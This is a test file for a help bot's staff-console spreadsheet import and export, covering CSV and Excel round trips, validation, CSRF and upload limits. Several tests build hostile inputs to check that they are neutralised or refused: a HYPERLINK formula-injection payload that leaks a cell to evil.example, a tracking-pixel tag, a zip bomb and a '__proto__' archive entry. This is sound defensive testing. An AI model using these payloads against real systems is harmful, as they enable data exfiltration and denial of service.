import { readdir, readFile } from 'node:fs/promises';
import { request as httpRequest } from 'node:http';
import { Worker } from 'node:worker_threads';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { parse } from 'yaml';
import { stringify } from 'csv-stringify/sync';
import type { FastifyInstance } from 'fastify';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { readSheet } from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import writeExcelFile from 'write-excel-file/node';
import { AuditLog } from '../../src/admin/audit-log.js';
import { unguardCell } from '../../src/admin/spreadsheet.js';
import { isEntryFile } from '../../src/knowledge/load.js';
import { XLSX_TYPE } from '../../src/admin/spreadsheet-xlsx.js';
import { embeddedStoreOf } from '../support/stores.js';
import { LANGUAGES } from '../../src/languages.js';
import { csrfOf, signInWith, STAFF, useConsoleServer } from '../support/console-server.js';

const serve = useConsoleServer();
let app: FastifyInstance;
let url: string;
let knowledge: string;
let dataDir: string;

async function start() {
  ({ app, url, knowledgeDir: knowledge, dataDir } = await serve());
}

const tokenOf = (body: string) => /name="token" value="([^"]+)"/.exec(body)?.[1];
const historyOf = async (file: string) => new AuditLog(await embeddedStoreOf(dataDir)).historyOf(file);

/** Signs in; returns the session cookie and the CSRF token of the transfer page. */
async function signIn() {
  const { cookie } = await signInWith(app);
  const page = await app.inject({ url: '/admin/transfer', headers: { cookie } });
  expect(page.statusCode).toBe(200);
  return { cookie, csrf: csrfOf(page.body) };
}

type Row = { id: string; lang: string; status: string; referral: string; question: string; variants: string; romanised: string; answer: string };
const COLUMNS = ['id', 'lang', 'status', 'referral', 'question', 'variants', 'romanised', 'answer'] as const;
/** The columns of a spreadsheet exported before `referral` and `romanised` existed. */
const OLD_COLUMNS = ['id', 'lang', 'status', 'question', 'variants', 'answer'] as const;
const toCsv = (rows: readonly Row[], columns: readonly (keyof Row)[] = COLUMNS) => stringify([[...columns], ...rows.map((r) => columns.map((c) => r[c]))]);
const entryFiles = async (dir: string) => (await readdir(dir)).filter((f) => f.endsWith('.yaml') && isEntryFile(f));

async function exportRows(cookie: string) {
  const response = await app.inject({ url: '/admin/transfer/export.csv', headers: { cookie } });
  return { response, rows: parseCsv(response.body, { bom: true, columns: true }) as Row[] };
}

const dryRun = (cookie: string, csrf: string, csv: string) =>
  app.inject({ method: 'POST', url: '/admin/transfer/dry-run', headers: { cookie, 'content-type': 'application/x-www-form-urlencoded' }, payload: new URLSearchParams({ _csrf: csrf, csv }).toString() });
const apply = (cookie: string, csrf: string, token: string) => app.inject({ method: 'POST', url: '/admin/transfer/apply', headers: { cookie }, payload: { _csrf: csrf, token } });

/** A browser's file upload: multipart/form-data with the CSRF field and the CSV as a file. */
function multipart(fields: Record<string, string>, file: string | Buffer) {
  const boundary = '----rahnama-test-boundary';
  const parts = Object.entries(fields).map(([name, value]) => `--${boundary}\r\ncontent-disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`);
  const head = `${parts.join('')}--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="kb.csv"\r\ncontent-type: text/csv\r\n\r\n`;
  return { type: `multipart/form-data; boundary=${boundary}`, body: Buffer.concat([Buffer.from(head, 'utf8'), Buffer.from(file), Buffer.from(`\r\n--${boundary}--\r\n`)]) };
}
function upload(cookie: string, fields: Record<string, string>, file: string | Buffer) {
  const { type, body } = multipart(fields, file);
  return app.inject({ method: 'POST', url: '/admin/transfer/dry-run', headers: { cookie, 'content-type': type }, payload: body });
}

/**
 * Asks for /healthz every 20 ms from another thread, which a blocked server thread cannot hold
 * up (this test's own thread is the server's), until stopped; then says how long each took.
 */
async function probeHealthFromAnotherThread(): Promise<{ stop: () => Promise<{ status: number; ms: number }[]> }> {
  const worker = new Worker(
    `const { parentPort, workerData } = require('node:worker_threads');
    let stopped = false;
    const results = [];
    parentPort.once('message', () => (stopped = true));
    (async () => {
      // The first request opens the connection: what is measured after it is the server.
      await (await fetch(workerData)).text();
      parentPort.postMessage('ready');
      while (!stopped) {
        const sent = performance.now();
        const response = await fetch(workerData);
        await response.text();
        results.push({ status: response.status, ms: performance.now() - sent });
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
      parentPort.postMessage(results);
    })();`,
    { eval: true, workerData: `${url}/healthz` },
  );
  await new Promise((resolve) => worker.once('message', resolve));
  return {
    stop: async () => {
      const results = new Promise<{ status: number; ms: number }[]>((resolve) => worker.once('message', resolve));
      worker.postMessage('stop');
      const found = await results;
      await worker.terminate();
      return found;
    },
  };
}

/**
 * The dry run over a real socket with a body made beforehand, written at once: the client does
 * next to no work on the thread the server shares with it (fetch would encode the form on it).
 */
function postOverHttp(cookie: string, { type, body }: { type: string; body: Buffer }): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const request = httpRequest(`${url}/admin/transfer/dry-run`, { method: 'POST', headers: { cookie, 'content-type': type, 'content-length': body.length } }, (response) => {
      const chunks: Buffer[] = [];
      response.on('data', (chunk: Buffer) => chunks.push(chunk));
      response.on('end', () => resolve({ status: response.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8') }));
      response.on('error', reject);
    });
    request.on('error', reject);
    request.end(body);
  });
}

const unescapeHtml = (text: string) => text.replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');
/** The report's table rows, as [row, id, lang, last cell]. */
function tableRows(body: string, table: 'bad-rows' | 'changes'): string[][] {
  const section = new RegExp(`<table class="${table}">([\\s\\S]*?)</table>`).exec(body)?.[1] ?? '';
  return [...section.matchAll(/<tr><td>([\s\S]*?)<\/tr>/g)].map((m) => `<td>${m[1]}`.split(/<\/td>/).filter((c) => c.includes('<td>')).map((c) => unescapeHtml(c.replace(/^[\s\S]*?<td>/, '').replace(/<[^>]+>/g, ''))));
}

async function snapshot(dir: string): Promise<Map<string, string>> {
  const files = (await readdir(dir, { recursive: true })).filter((f) => f.endsWith('.yaml')).sort();
  return new Map(await Promise.all(files.map(async (f) => [f, await readFile(path.join(dir, f), 'utf8')] as const)));
}

/** Over real HTTP, as a browser sends it: the session cookie and a multipart form with the chosen file. */
async function uploadOverHttp(cookie: string, csrf: string, file: { name: string; type: string; data: Uint8Array }) {
  const form = new FormData();
  form.append('_csrf', csrf);
  form.append('file', new Blob([new Uint8Array(file.data)], { type: file.type }), file.name);
  const response = await fetch(`${url}/admin/transfer/dry-run`, { method: 'POST', headers: { cookie }, body: form });
  return { status: response.status, body: await response.text() };
}

async function exportXlsx(cookie: string) {
  const response = await fetch(`${url}/admin/transfer/export.xlsx`, { headers: { cookie } });
  const data = Buffer.from(await response.arrayBuffer());
  const rows = (await readSheet(data, { trim: false })).map((row) => row.map((cell) => (cell === null ? '' : String(cell))));
  return { response, data, rows };
}

/** A workbook as Excel saves one: every cell text. */
const workbook = (rows: readonly (readonly string[])[]) => writeExcelFile(rows.map((row) => row.map((value) => ({ value, type: String })))).toBuffer();
const xlsxFile = (data: Uint8Array, name = 'kb.xlsx') => ({ name, type: XLSX_TYPE, data });

const ask = async (text: string, lang: string) => (await app.inject({ method: 'POST', url: '/api/ask', payload: { text, lang } })).json().answer as string;

describe('spreadsheet import and export in the staff console', () => {
  it('exports one row per entry and language as a UTF-8 CSV attachment, and importing the export back changes nothing', async () => {
    await start();
    const { cookie, csrf } = await signIn();
    const { response, rows } = await exportRows(cookie);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="rahnama-knowledge-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(response.body.startsWith('\uFEFFid,lang,status,referral,question,variants,romanised,answer\r\n')).toBe(true);
    expect(rows).toHaveLength((await entryFiles(knowledge)).length * LANGUAGES.length);
    expect(new Set(rows.map((r) => `${r.id} ${r.lang}`)).size).toBe(rows.length);
    const cost = rows.find((r) => r.id === 'avrr-cost' && r.lang === 'fa')!;
    const yaml = await readFile(path.join(knowledge, 'avrr-cost.yaml'), 'utf8');
    expect(yaml).toContain(cost.question);
    expect(cost.variants.split('\n').length).toBeGreaterThan(1);

    const pasted = await dryRun(cookie, csrf, response.body);
    expect(pasted.statusCode).toBe(200);
    expect(pasted.body).toContain(`Rows read: ${rows.length}.`);
    expect(pasted.body).toContain('The spreadsheet is the same as the knowledge base: nothing to change.');
    expect(tokenOf(pasted.body)).toBeUndefined();

    const uploaded = await upload(cookie, { _csrf: csrf }, response.body);
    expect(uploaded.statusCode).toBe(200);
    expect(uploaded.body).toContain('nothing to change');

    // Excel saves CSV with semicolons where the decimal mark is a comma.
    const semicolons = stringify([[...COLUMNS], ...rows.map((r) => COLUMNS.map((c) => r[c]))], { delimiter: ';' });
    expect((await dryRun(cookie, csrf, semicolons)).body).toContain('nothing to change');
    // A spreadsheet exported before the referral and romanised columns existed changes neither.
    expect((await dryRun(cookie, csrf, toCsv(rows, OLD_COLUMNS))).body).toContain('nothing to change');
  });

  it('shows an edited row in the dry run as a change and writes nothing until it is applied; then the file changes, the bot answers with it, and the audit log says who', async () => {
    await start();
    const { cookie, csrf } = await signIn();
    const { rows } = await exportRows(cookie);
    const before = await snapshot(knowledge);
    const newAnswer = 'پاسخ تازه از صفحه‌گسترده: هزینه‌ها را مشاور توضیح می‌دهد.';
    const edited = rows.map((r) => (r.id === 'avrr-cost' && r.lang === 'fa' ? { ...r, answer: newAnswer, status: 'reviewed' } : r));

    const report = await dryRun(cookie, csrf, toCsv(edited));
    expect(report.statusCode).toBe(200);
    const row = edited.findIndex((r) => r.id === 'avrr-cost' && r.lang === 'fa') + 2;
    expect(tableRows(report.body, 'changes')).toEqual([[String(row), 'avrr-cost', 'fa', 'status, answer']]);
    expect(await snapshot(knowledge)).toEqual(before);
    const question = rows.find((r) => r.id === 'avrr-cost' && r.lang === 'fa')!.question;
    expect(await ask(question, 'fa')).not.toContain(newAnswer);

    const token = tokenOf(report.body)!;
    const applied = await apply(cookie, csrf, token);
    expect(applied.statusCode).toBe(200);
    expect(applied.body).toContain('Applied. 1 entry file(s) changed');
    const after = await snapshot(knowledge);
    expect(after.get('avrr-cost.yaml')).toContain(newAnswer);
    expect([...after].filter(([file, text]) => before.get(file) !== text).map(([file]) => file)).toEqual(['avrr-cost.yaml']);
    expect(await ask(question, 'fa')).toContain(newAnswer);
    expect(await historyOf('avrr-cost.yaml')).toEqual([expect.objectContaining({ who: STAFF.email, action: 'publish', before: before.get('avrr-cost.yaml'), after: expect.stringContaining(newAnswer) })]);

    // A dry run applies once.
    expect((await apply(cookie, csrf, token)).statusCode).toBe(410);
  });

  it('carries the referral flag and the romanised spellings out and back: unchanged they change nothing, edited they are published in their place', async () => {
    await start();
    const { cookie, csrf } = await signIn();
    const { response, rows } = await exportRows(cookie);
    const rowOf = (list: Row[], id: string, lang: string) => list.find((r) => r.id === id && r.lang === lang)!;
    const referral = parse(await readFile(path.join(knowledge, 'help-outside-iom.yaml'), 'utf8')) as { languages: Record<string, { romanised?: string[] }> };
    expect(rows.filter((r) => r.id === 'help-outside-iom').map((r) => r.referral)).toEqual(LANGUAGES.map(() => 'yes'));
    expect(rowOf(rows, 'avrr-timeline', 'en').referral).toBe('');
    expect(rowOf(rows, 'help-outside-iom', 'fa').romanised).toBe((referral.languages.fa?.romanised ?? []).join('\n'));
    expect(rowOf(rows, 'help-outside-iom', 'en').romanised).toBe('');
    expect((await dryRun(cookie, csrf, response.body)).body).toContain('nothing to change');

    // A translator marks avrr-timeline as a referral (on every row) and adds a Farsi romanised spelling.
    const spelling = 'cheghadr tool mikeshe ta bargardam';
    const edited = rows.map((r) =>
      r.id !== 'avrr-timeline' ? r : { ...r, referral: 'yes', romanised: r.lang === 'fa' ? [r.romanised, spelling].filter(Boolean).join('\n') : r.romanised },
    );
    const report = await dryRun(cookie, csrf, toCsv(edited));
    expect(report.statusCode).toBe(200);
    const rowNumber = (lang: string) => String(edited.findIndex((r) => r.id === 'avrr-timeline' && r.lang === lang) + 2);
    // The flag is one change of the entry, shown on its first row.
    expect(tableRows(report.body, 'changes')).toEqual([
      [rowNumber('en'), 'avrr-timeline', 'en', 'referral'],
      [rowNumber('fa'), 'avrr-timeline', 'fa', 'romanised'],
    ]);
    expect((await apply(cookie, csrf, tokenOf(report.body)!)).body).toContain('Applied. 1 entry file(s) changed');
    const text = await readFile(path.join(knowledge, 'avrr-timeline.yaml'), 'utf8');
    expect(text).toMatch(/\nreviewed: [\d-]+\nreferral: true\n/);
    const published = parse(text) as { languages: Record<string, { variants: string[]; romanised?: string[] }> };
    expect(published.languages.fa?.romanised).toContain(spelling);
    expect(Object.keys(published.languages.fa ?? {})).toEqual(['status', 'question', 'variants', 'romanised', 'answer']);
    expect((await dryRun(cookie, csrf, (await exportRows(cookie)).response.body)).body).toContain('nothing to change');

    // One flag per entry, and romanised spellings only where people type in Latin letters.
    const after = (await exportRows(cookie)).rows;
    const bad = await dryRun(cookie, csrf, toCsv([{ ...rowOf(after, 'avrr-timeline', 'en'), referral: '' }, rowOf(after, 'avrr-timeline', 'bg'), { ...rowOf(after, 'avrr-cost', 'fr'), romanised: 'combien ca coute' }, { ...rowOf(after, 'avrr-cost', 'tr'), referral: 'maybe' }]));
    expect(bad.statusCode).toBe(422);
    expect(tableRows(bad.body, 'bad-rows').map((r) => [r[0], r[3]])).toEqual([
      ['3', 'referral is "yes" here but "" in row 2: it is one flag for the whole entry'],
      ['4', 'romanised spellings are only for ar, fa, ur, ps, bg, ru, uk'],
      ['5', 'referral must be "yes" or empty, not "maybe"'],
    ]);
  });

  it('refuses a malformed import, changing nothing, and names each bad row with its number and reason', async () => {
    await start();
    const { cookie, csrf } = await signIn();
    const { rows } = await exportRows(cookie);
    const before = await snapshot(knowledge);
    const good = rows.find((r) => r.id === 'avrr-timeline' && r.lang === 'en')!;
    const other = rows.find((r) => r.id === 'avrr-family' && r.lang === 'bg')!;
    const header = COLUMNS.join(',');
    const line = (r: Row) => toCsv([r]).split('\n').slice(1).join('\n').trimEnd();
    const csv = [
      header,
      line({ ...good, answer: 'A good edit that must not be applied either.' }), // row 2
      line({ ...good, id: 'no-such-entry' }), // row 3
      line({ ...good, lang: 'xx' }), // row 4
      line({ ...other, answer: '   ' }), // row 5
      line({ ...good, answer: 'The same entry and language again.' }), // row 6
      'avrr-overview,en,reviewed,,What is "voluntary" return,one variant,,An answer', // row 7: a quote inside an unquoted cell
      line({ ...good, id: 'avrr-overview', status: 'draft' }), // row 8
    ].join('\r\n');

    const report = await dryRun(cookie, csrf, csv);
    expect(report.statusCode).toBe(422);
    expect(report.body).toContain('This import cannot be applied: 6 bad row(s)');
    const bad = tableRows(report.body, 'bad-rows');
    expect(bad.map((r) => r[0])).toEqual(['3', '4', '5', '6', '7', '8']);
    expect(bad[0]![3]).toBe('unknown id "no-such-entry"');
    expect(bad[1]![3]).toMatch(/^unknown language code "xx"/);
    expect(bad[2]![3]).toBe('the answer is empty');
    expect(bad[3]![3]).toBe('duplicate: row 2 is also avrr-timeline en');
    expect(bad[4]![3]).toMatch(/^CSV syntax \(line \d+\): Invalid Opening Quote/);
    expect(bad[5]![3]).toBe('status must be reviewed or machine, not "draft"');
    expect(tokenOf(report.body)).toBeUndefined();

    // Nothing changed, and there is nothing to apply.
    expect((await apply(cookie, csrf, 'made-up-token')).statusCode).toBe(410);
    expect(await snapshot(knowledge)).toEqual(before);
    expect(await historyOf('avrr-timeline.yaml')).toEqual([]);
  });

  it('refuses a spreadsheet without the expected columns, a file that is not UTF-8, and an import the knowledge base check refuses', async () => {
    await start();
    const { cookie, csrf } = await signIn();
    const noColumns = await dryRun(cookie, csrf, 'id,language,text\navrr-cost,en,hello\n');
    expect(noColumns.statusCode).toBe(422);
    expect(tableRows(noColumns.body, 'bad-rows')).toEqual([['1', '', '', expect.stringMatching(/^missing columns: lang, status, question, variants, answer/)]]);

    // Saved by Excel as plain "CSV" (Windows-1251), and uploaded: not UTF-8.
    const ansi = Buffer.concat([Buffer.from('id,lang,status,question,variants,answer\r\navrr-cost,bg,machine,'), Buffer.from([0xc2, 0xfa, 0xef, 0xf0, 0xee, 0xf1]), Buffer.from(',a,b\r\n')]);
    const notUtf8 = await upload(cookie, { _csrf: csrf }, ansi);
    expect(notUtf8.statusCode).toBe(422);
    expect(tableRows(notUtf8.body, 'bad-rows')).toEqual([['1', '', '', expect.stringMatching(/^the file is not UTF-8 text/)]]);

    const { rows } = await exportRows(cookie);
    const en = rows.find((r) => r.id === 'avrr-cost' && r.lang === 'en')!;
    const before = await snapshot(knowledge);
    const repeats = await dryRun(cookie, csrf, toCsv([{ ...en, variants: `${en.variants}\n${en.question}` }]));
    expect(repeats.statusCode).toBe(422);
    expect(repeats.body).toContain('avrr-cost.yaml › languages.en.variants');
    expect(repeats.body).toContain('repeats the question or another variant');
    expect(tokenOf(repeats.body)).toBeUndefined();
    expect(await snapshot(knowledge)).toEqual(before);
  });

  it('refuses an import whose answer holds raw HTML, naming the file, the field and the tag, as kb:check does', async () => {
    await start();
    const { cookie, csrf } = await signIn();
    const { rows } = await exportRows(cookie);
    const en = rows.find((r) => r.id === 'avrr-cost' && r.lang === 'en')!;
    const before = await snapshot(knowledge);
    const report = await dryRun(cookie, csrf, toCsv([{ ...en, answer: `${en.answer}\n<img src="https://tracker.example/p.gif">` }]));
    expect(report.statusCode).toBe(422);
    expect(unescapeHtml(report.body)).toContain('avrr-cost.yaml › languages.en.answer: contains raw HTML (<img src="https://tracker.example/p.gif">)');
    expect(report.body).not.toContain('<img src=');
    expect(tokenOf(report.body)).toBeUndefined();
    expect(await snapshot(knowledge)).toEqual(before);
  });

  it('does not apply a dry run when the entry was published in between, keeping the other publish', async () => {
    await start();
    const { cookie, csrf } = await signIn();
    const { rows } = await exportRows(cookie);
    const en = rows.find((r) => r.id === 'avrr-timeline' && r.lang === 'en')!;
    const report = await dryRun(cookie, csrf, toCsv([{ ...en, answer: 'From the spreadsheet.' }]));
    const token = tokenOf(report.body)!;
    const form = await app.inject({ url: '/admin/entries/avrr-timeline', headers: { cookie } });
    const version = /name="version" value="([^"]+)"/.exec(form.body)?.[1] ?? '';
    const saved = await app.inject({ method: 'POST', url: '/admin/entries/avrr-timeline', headers: { cookie }, payload: { _csrf: csrf, version, 'languages.en.answer': 'From the entry form.' } });
    expect(saved.statusCode).toBe(303);
    const applied = await apply(cookie, csrf, token);
    expect(applied.statusCode).toBe(409);
    expect(applied.body).toContain('someone published avrr-timeline after your check');
    const text = await readFile(path.join(knowledge, 'avrr-timeline.yaml'), 'utf8');
    expect(text).toContain('From the entry form.');
    expect(text).not.toContain('From the spreadsheet.');
  });

  it('puts a quote in front of every cell a spreadsheet would run as a formula, in the CSV and the workbook, and importing either export changes nothing', async () => {
    await start();
    const { cookie, csrf } = await signIn();
    const { rows } = await exportRows(cookie);
    const formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Click for help")';
    const texts = {
      cost: { answer: '- bring your passport\n- bring your return ticket', variants: `${formula}\n@IOM how much does it cost` },
      family: { answer: '+ children travel with you\n+ so does your spouse' },
      timeline: { answer: "'Quoted' words first: the translator's own quote stays." },
    };
    const edited = rows.map((r) =>
      r.id === 'avrr-cost' && r.lang === 'en' ? { ...r, ...texts.cost }
      : r.id === 'avrr-family' && r.lang === 'en' ? { ...r, ...texts.family }
      : r.id === 'avrr-timeline' && r.lang === 'en' ? { ...r, ...texts.timeline }
      : r,
    );
    const applied = await apply(cookie, csrf, tokenOf((await dryRun(cookie, csrf, toCsv(edited))).body)!);
    expect(applied.body).toContain('Applied. 3 entry file(s) changed');
    const published = await snapshot(knowledge);

    // The CSV: the formula is text behind a quote; no cell starts like a formula.
    const csv = await exportRows(cookie);
    expect(csv.response.body).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A2,""Click for help"")\n@IOM how much does it cost`);
    const cells = csv.rows.flatMap((r) => COLUMNS.map((c) => r[c]));
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    const row = (rows: Row[], id: string) => rows.find((r) => r.id === id && r.lang === 'en')!;
    expect(row(csv.rows, 'avrr-cost')).toMatchObject({ answer: `'${texts.cost.answer}`, variants: `'${texts.cost.variants}` });
    expect(row(csv.rows, 'avrr-family').answer).toBe(`'${texts.family.answer}`);
    expect(row(csv.rows, 'avrr-timeline').answer).toBe(texts.timeline.answer);
    // Without the quote, every cell is what was published.
    for (const id of ['avrr-cost', 'avrr-family', 'avrr-timeline']) {
      expect(Object.fromEntries(COLUMNS.map((c) => [c, unguardCell(row(csv.rows, id)[c])]))).toEqual(row(edited, id));
    }

    // The workbook: the same guarded text cells, and no formula anywhere in it.
    const xlsx = await exportXlsx(cookie);
    expect(xlsx.rows).toEqual([[...COLUMNS], ...csv.rows.map((r) => COLUMNS.map((c) => r[c]))]);
    const sheet = strFromU8(unzipSync(xlsx.data)['xl/worksheets/sheet1.xml']!);
    expect(sheet).toContain('<sheetData>');
    expect(sheet).not.toMatch(/<f[\s>]/);

    // Both come back as they went: nothing to change, nothing written.
    expect((await dryRun(cookie, csrf, csv.response.body)).body).toContain('nothing to change');
    const uploaded = await uploadOverHttp(cookie, csrf, xlsxFile(xlsx.data));
    expect(uploaded.status).toBe(200);
    expect(uploaded.body).toContain(`Rows read: ${csv.rows.length}.`);
    expect(uploaded.body).toContain('nothing to change');
    expect(await snapshot(knowledge)).toEqual(published);
  });

  it('exports an Excel workbook with the same rows as the CSV; an edited copy, uploaded over HTTP, gets the same dry run and apply, and the bot answers with it', async () => {
    await start();
    const { cookie, csrf } = await signIn();
    const { response, data, rows } = await exportXlsx(cookie);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe(XLSX_TYPE);
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="rahnama-knowledge-\d{4}-\d{2}-\d{2}\.xlsx"$/);
    expect(data.subarray(0, 4)).toEqual(Buffer.from('PK\x03\x04', 'latin1'));
    const csv = (await exportRows(cookie)).rows;
    expect(rows).toEqual([[...COLUMNS], ...csv.map((r) => COLUMNS.map((c) => r[c]))]);

    // A translator changes the Bulgarian answer in Excel and saves the workbook.
    const before = await snapshot(knowledge);
    const newAnswer = 'Отговор от Excel: разходите за пътуването се покриват от МОМ.';
    const at = rows.findIndex((r) => r[0] === 'avrr-cost' && r[1] === 'bg');
    const edited = rows.map((r, i) => (i === at ? [...r.slice(0, COLUMNS.indexOf('answer')), newAnswer] : r));
    const report = await uploadOverHttp(cookie, csrf, xlsxFile(await workbook(edited)));
    expect(report.status).toBe(200);
    expect(tableRows(report.body, 'changes')).toEqual([[String(at + 1), 'avrr-cost', 'bg', 'answer']]);
    expect(await snapshot(knowledge)).toEqual(before);

    const question = csv.find((r) => r.id === 'avrr-cost' && r.lang === 'bg')!.question;
    const applied = await fetch(`${url}/admin/transfer/apply`, {
      method: 'POST',
      headers: { cookie, 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ _csrf: csrf, token: tokenOf(report.body)! }),
    });
    expect(applied.status).toBe(200);
    expect(await applied.text()).toContain('Applied. 1 entry file(s) changed');
    expect((await readFile(path.join(knowledge, 'avrr-cost.yaml'), 'utf8'))).toContain(newAnswer);
    expect(await ask(question, 'bg')).toContain(newAnswer);
  });

  it('refuses a workbook that is not one, is broken, has other columns, is an old .xls or unpacks to too much, changing nothing', async () => {
    await start();
    const { cookie, csrf } = await signIn();
    const { data } = await exportXlsx(cookie);
    const before = await snapshot(knowledge);
    const bomb = unzipSync(data);
    bomb['xl/sharedStrings.xml'] = strToU8(strFromU8(bomb['xl/sharedStrings.xml']!).replace('<t>id</t>', `<t>${'A'.repeat(40 * 1024 * 1024)}</t>`));
    const cases = [
      { file: xlsxFile(Buffer.from('this is not a workbook')), reason: /^the file is not an Excel workbook \(\.xlsx\) that can be read \(not a zip archive\): in Excel use "Save as"/ },
      { file: xlsxFile(Buffer.from('PK')), reason: /\(not a zip archive\)/ },
      { file: xlsxFile(data.subarray(0, data.length >> 1)), reason: /\(the zip archive is cut short or damaged\)/ },
      { file: xlsxFile(await workbook([['id', 'language', 'text'], ['avrr-cost', 'en', 'hello']])), reason: /^missing columns: lang, status, question, variants, answer/ },
      { file: xlsxFile(Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]), 'kb.xls'), reason: /^the file is an old Excel 97-2003 workbook \(\.xls\)/ },
      { file: xlsxFile(zipSync(bomb, { level: 9 })), reason: /^the workbook is larger than 32 MB unpacked/ },
    ];
    for (const { file, reason } of cases) {
      const report = await uploadOverHttp(cookie, csrf, file);
      expect(report.status).toBe(422);
      expect(tableRows(report.body, 'bad-rows')).toEqual([['1', '', '', expect.stringMatching(reason)]]);
      expect(tokenOf(report.body)).toBeUndefined();
    }
    expect(cases.at(-1)!.file.data.length).toBeLessThan(1024 * 1024);
    expect(await snapshot(knowledge)).toEqual(before);
  });

  it('refuses an upload without the CSRF token, the import routes without a session, and a file over 5 MB', async () => {
    await start();
    const { cookie, csrf } = await signIn();
    const { response } = await exportRows(cookie);
    const forged = await upload(cookie, { _csrf: 'guess' }, response.body);
    expect(forged.json()).toMatchObject({ statusCode: 403, code: 'RAHNAMA_ADMIN_CSRF' });
    const anonymous = await upload('', { _csrf: csrf }, response.body);
    expect(anonymous.json()).toMatchObject({ statusCode: 401, code: 'RAHNAMA_ADMIN_SIGN_IN_REQUIRED' });
    expect((await app.inject({ url: '/admin/transfer/export.csv' })).headers.location).toBe('/admin/login');
    const huge = 'x'.repeat(6 * 1024 * 1024);
    expect((await upload(cookie, { _csrf: csrf }, huge)).statusCode).toBe(413);
    expect((await dryRun(cookie, csrf, huge)).statusCode).toBe(413);
  });

  it('keeps answering /healthz within 200 ms while it checks a 5 MB bad CSV, and reports it in a bounded page: the first 100 bad rows and how many more', async () => {
    await start();
    const { cookie, csrf } = await signIn();
    const line = `no-such-entry,xx,draft,maybe,${'q'.repeat(100)},${'v'.repeat(80)},,${'a'.repeat(60)}\n`;
    const csv = `${COLUMNS.join(',')}\n${line.repeat(19_000)}`;
    expect(csv.length).toBeGreaterThan(5_000_000);
    const before = await snapshot(knowledge);

    const form = multipart({ _csrf: csrf }, csv);
    const probe = await probeHealthFromAnotherThread();
    const report = await postOverHttp(cookie, form);
    const health = await probe.stop();
    const latencies = health.map((h) => h.ms);
    expect(new Set(health.map((h) => h.status))).toEqual(new Set([200]));
    // The server answered all along: several health checks went out while the check ran.
    expect(latencies.length).toBeGreaterThan(3);
    expect(Math.max(...latencies)).toBeLessThan(200);

    expect(report.status).toBe(422);
    expect(report.body.length).toBeLessThan(200 * 1024);
    expect(report.body).toContain('This import cannot be applied: 19000 bad row(s)');
    const bad = tableRows(report.body, 'bad-rows');
    expect(bad).toHaveLength(100);
    expect(bad[0]).toEqual(['2', 'no-such-entry', 'xx', expect.stringMatching(/^unknown id "no-such-entry"; unknown language code "xx"/)]);
    expect(report.body).toContain('and 18900 more bad row(s), not listed');
    expect(tokenOf(report.body)).toBeUndefined();
    expect(await snapshot(knowledge)).toEqual(before);
  });

  it('refuses a workbook with a file named __proto__ in its archive with a coded 400, and keeps working', async () => {
    await start();
    const { cookie, csrf } = await signIn();
    const { data } = await exportXlsx(cookie);
    const files = unzipSync(data);
    files['QQQQQQQQQ'] = strToU8('<x/>');
    const zip = Buffer.from(zipSync(files));
    for (let at = zip.indexOf('QQQQQQQQQ'); at >= 0; at = zip.indexOf('QQQQQQQQQ', at + 1)) zip.write('__proto__', at);

    const refused = await uploadOverHttp(cookie, csrf, xlsxFile(zip));
    expect(refused.status).toBe(400);
    expect(JSON.parse(refused.body)).toEqual({
      statusCode: 400,
      code: 'RAHNAMA_SPREADSHEET_REFUSED',
      error: 'Bad Request',
      message: 'The spreadsheet was refused: the archive holds a file named "__proto__", which no workbook has',
    });
    // The same workbook without that file is read as usual.
    const clean = await uploadOverHttp(cookie, csrf, xlsxFile(data));
    expect(clean.status).toBe(200);
    expect(clean.body).toContain('nothing to change');
  });
});
